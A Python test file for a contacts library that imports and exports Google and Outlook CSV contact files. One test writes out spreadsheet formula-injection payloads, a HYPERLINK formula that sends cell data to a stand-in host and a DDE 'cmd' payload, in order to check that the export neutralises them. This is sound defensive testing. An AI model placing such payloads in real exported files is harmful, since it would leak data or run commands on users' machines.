"""CSV files of contacts, in and out."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from postroom.message.contacts import csv_reading, csv_writing, files, jscontact
from postroom.message.contacts.files import Format
from postroom.message.contacts.vcard import NotContacts

GOOGLE = (
    "First Name,Middle Name,Last Name,Name Prefix,Nickname,Organization Name,Organization Title,Organization Department,Birthday,Notes,Labels,"
    "E-mail 1 - Label,E-mail 1 - Value,E-mail 2 - Label,E-mail 2 - Value,Phone 1 - Label,Phone 1 - Value,Address 1 - Label,Address 1 - Street,"
    "Address 1 - City,Address 1 - Postal Code,Address 1 - Country,Website 1 - Value\n"
    'Zoë,B.,Müller,Dr.,Zo,"Crêpes, Ltd",Cook,Kitchen,1980-02-29,"Two\nlines",Friends ::: * myContacts,* Home,zoe@crepes.test,Work,z@a.test ::: z@b.test,'
    "Mobile,+33 1,Work,1 Rue X,Paris,75001,France,https://crepes.test\n"
    ",,,,,,,,,,,,,,,,,,,,,,\n"
)


def test_googles_columns() -> None:
    (card,) = csv_reading.read(GOOGLE.encode()).cards
    assert jscontact.problems(card) == []
    assert card["name"]["full"] == "Dr. Zoë B. Müller"
    assert card["emails"] == {
        "e1": {"address": "zoe@crepes.test", "contexts": {"private": True}, "pref": 1},
        "e2": {"address": "z@a.test", "contexts": {"work": True}},
        "e3": {"address": "z@b.test", "contexts": {"work": True}},
    }
    assert card["phones"] == {"p1": {"number": "+33 1", "features": {"mobile": True}}}
    assert card["keywords"] == {"Friends": True}
    assert card["anniversaries"] == {"b1": {"kind": "birth", "date": {"year": 1980, "month": 2, "day": 29}}}
    assert card["notes"] == {"n1": {"note": "Two\nlines"}}
    assert card["organizations"] == {"o1": {"name": "Crêpes, Ltd", "units": [{"name": "Kitchen"}]}}
    assert {one["kind"]: one["value"] for one in card["addresses"]["a1"]["components"]} == {
        "name": "1 Rue X", "locality": "Paris", "postcode": "75001", "country": "France",
    }  # fmt: skip


def test_googles_older_columns() -> None:
    text = "Name,Given Name,Family Name,Group Membership,E-mail 1 - Type,E-mail 1 - Value,Organization 1 - Name\nBob B,Bob,B,* My Contacts,* ,b@x.test,X\n"
    (card,) = csv_reading.read(text.encode()).cards
    assert card["name"]["full"] == "Bob B"
    assert card["emails"] == {"e1": {"address": "b@x.test", "pref": 1}}
    assert "keywords" not in card


@pytest.mark.parametrize(
    ("row", "full"),
    [('Jane,Doe,"Doe, Jane"', "Jane Doe"), (',,"Acme, Ltd"', "Acme, Ltd"), ("Jane,,", "Jane")],
)
def test_what_a_contact_is_sorted_by_is_no_name(row: str, full: str) -> None:
    (card,) = csv_reading.read(f"First Name,Last Name,File As\n{row}\n".encode()).cards
    assert card["name"]["full"] == full


def test_outlooks_columns_with_semicolons_in_windows_letters() -> None:
    text = (
        "Title;First Name;Last Name;Company;Business Street;Business City;Business Postal Code;Business Phone;Business Phone 2;Mobile Phone;Home Fax;"
        "E-mail Address;E-mail Type;E-mail 2 Address;Birthday;Categories;Gender\r\n"
        'Herr;Jürgen;Groß;"Groß; Söhne";Weg 1;Köln;50667;+49 1;+49 2;+49 3;+49 4;j@gross.test;SMTP;jg@home.test;12/31/1970;Kunden;Male\r\n'
    )
    read = csv_reading.read(text.encode("cp1252"))
    (card,) = read.cards
    assert read.complaints == [
        "nothing is known of the column 'E-mail Type'",
        "nothing is known of the column 'Gender'",
    ]
    assert card["name"]["full"] == "Herr Jürgen Groß"
    assert card["organizations"] == {"o1": {"name": "Groß; Söhne"}}
    assert [one["number"] for one in card["phones"].values()] == ["+49 1", "+49 2", "+49 3", "+49 4"]
    assert card["phones"]["p3"]["features"] == {"mobile": True}
    assert card["phones"]["p4"] == {
        "number": "+49 4",
        "contexts": {"private": True},
        "features": {"fax": True},
    }
    assert [one["address"] for one in card["emails"].values()] == ["j@gross.test", "jg@home.test"]
    assert card["anniversaries"]["b1"]["date"] == {"year": 1970, "month": 12, "day": 31}


def test_utf_16_with_tabs() -> None:
    (card,) = csv_reading.read("First Name\tE-mail Address\r\nÅsa\ta@x.test\r\n".encode("utf-16")).cards
    assert (card["name"]["full"], card["emails"]["e1"]["address"]) == ("Åsa", "a@x.test")


@pytest.mark.parametrize("text", ["", "a,b\n1,2\n", "First Name\n", "First Name\n" + "x" * 200_000 + "\n"])
def test_what_is_none_is_refused(text: str) -> None:
    with pytest.raises(NotContacts):
        csv_reading.read(text.encode())


def test_values_of_a_file_are_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_reading, "MAX_VALUES", 5)
    csv_reading.read(b"First Name,Labels\na,b;c\nd,e\n")
    with pytest.raises(NotContacts, match="in parts"):
        csv_reading.read(b"First Name,Labels\na,b;c\nd,e;f\n")


def test_a_row_has_always_the_same_uid() -> None:
    assert csv_reading.read(GOOGLE.encode()) == csv_reading.read(GOOGLE.encode())


@pytest.mark.parametrize("form", list(csv_writing.FORMS))
def test_what_is_written_is_read_again(form: str) -> None:
    (card,) = csv_reading.read(GOOGLE.encode()).cards
    back = files.read(files.write([card], Format(form)))
    assert back.form is Format.CSV
    (again,) = back.cards
    for name in ("organizations", "anniversaries", "notes", "keywords", "titles", "nicknames"):
        assert again[name] == card[name]
    assert [one["address"] for one in again["emails"].values()] == [
        one["address"] for one in card["emails"].values()
    ]
    assert again["phones"] == card["phones"]
    assert again["name"]["components"] == card["name"]["components"]


@pytest.mark.parametrize("form", list(csv_writing.FORMS))
def test_a_spreadsheet_reckons_nothing_out(form: str) -> None:
    formula = '=HYPERLINK("http://evil.test/?"&B1)'
    card = {
        "@type": "Card", "version": "1.0", "uid": "u",
        "name": {"components": [{"kind": "given", "value": formula}, {"kind": "surname", "value": "@SUM(1)"}]},
        "phones": {"p": {"number": "+49 (1) 2-3"}, "q": {"number": "+1+cmd|' /C calc'!A0"}},
        "notes": {"n": {"note": "\t=1\n-1+x"}},
        "anniversaries": {"b": {"kind": "birth", "date": {"month": 3, "day": 5}}},
    }  # fmt: skip
    written = files.write([card], Format(form)).decode("utf-8-sig")
    _, *rows = csv.reader(io.StringIO(written, newline=""))
    assert [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t")] == ["--0305", "+49 (1) 2-3"]
    (again,) = csv_reading.read(written.encode()).cards
    assert again["name"]["components"] == card["name"]["components"]
    assert [one["number"] for one in again["phones"].values()] == ["+49 (1) 2-3", "+1+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("form", list(csv_writing.FORMS))
def test_a_name_stays_whole(form: str) -> None:
    parts = {"given": "Gabriel", "surname": "García", "surname2": "Márquez", "credential": "Jr."}
    name = {"components": [{"kind": kind, "value": value} for kind, value in parts.items()]}
    written = files.write([{"@type": "Card", "version": "1.0", "uid": "u", "name": name}], Format(form))
    assert files.read(written).cards[0]["name"]["full"] == "Gabriel García Márquez Jr."


@pytest.mark.parametrize("form", list(Format))
def test_every_form_is_known_again(form: Format) -> None:
    (card,) = csv_reading.read(GOOGLE.encode()).cards
    assert files.read(files.write([card], form)).cards[0]["emails"]["e1"]["address"] == "zoe@crepes.test"


def test_a_birthday_in_other_digits_is_a_note() -> None:
    (card,) = csv_reading.read("First Name,Birthday\nZoe,١/٢/٢٠٠٠\n".encode()).cards
    assert "anniversaries" not in card
    assert next(iter(card["notes"].values()))["note"] == "١/٢/٢٠٠٠"


@given(st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=6), max_size=4))
def test_whatever_stands_in_rows_is_a_card(rows: list[list[str]]) -> None:
    head = "First Name,Birthday,E-mail 1 - Label,E-mail 1 - Value,Labels,Home Street\n"
    quoted = "".join(",".join('"' + cell.replace('"', '""') + '"' for cell in row) + "\n" for row in rows)
    try:
        found = csv_reading.read((head + quoted).encode("utf-8", "replace"))
    except NotContacts:
        return
    for card in found.cards:
        assert jscontact.problems(card) == []
        csv_reading.read(csv_writing.google([card])) if card.get("name") else None


@given(st.binary(max_size=300))
def test_no_octets_break_it(octets: bytes) -> None:
    try:
        files.read(octets)
    except NotContacts:
        pass
